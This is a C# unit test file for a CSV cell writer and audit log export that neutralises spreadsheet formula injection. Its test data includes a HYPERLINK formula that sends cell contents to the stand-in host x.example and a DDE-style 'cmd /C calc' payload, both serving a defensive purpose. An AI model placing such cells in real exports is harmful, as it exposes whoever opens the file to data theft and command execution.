using Jixiao.Domain.Text;
using Jixiao.Domain.Workflow.Audit;

namespace Jixiao.Domain.Tests;

/// <summary>CSV cells a spreadsheet would run as formulas are written as text; numbers and ordinary text unchanged.</summary>
public class CsvCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点此\"\")\"")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("-12.50", "-12.50")]
    [InlineData("-5%", "-5%")]
    [InlineData("+1,234.5", "\"+1,234.5\"")]
    [InlineData("安保经费", "安保经费")]
    [InlineData("a,\"b\"", "\"a,\"\"b\"\"\"")]
    [InlineData("", "")]
    public void Write_NeutralisesFormulas_AndQuotesAsRfc4180(string cell, string expected)
    {
        Assert.Equal(expected, CsvCell.Write(cell));
    }

    [Fact]
    public void AuditExport_WritesAFormulaUserNameAsText()
    {
        var entry = AuditChain.Append(null, new AuditLogEntry
        {
            At = new DateTimeOffset(2024, 3, 1, 8, 0, 0, TimeSpan.Zero), User = "=HYPERLINK(\"http://x\")", Role = string.Empty, IpAddress = "10.0.0.1",
            Action = "登录失败", EntityType = "用户", EntityId = "=1+1", Field = string.Empty, OldValue = string.Empty, NewValue = "-3",
        });

        var line = AuditExport.ToCsv([entry]).Split("\r\n")[1];

        Assert.Contains(",\"'=HYPERLINK(\"\"http://x\"\")\",", line, StringComparison.Ordinal);
        Assert.Contains(",'=1+1,", line, StringComparison.Ordinal);
        Assert.Contains(",-3,", line, StringComparison.Ordinal);
    }
}
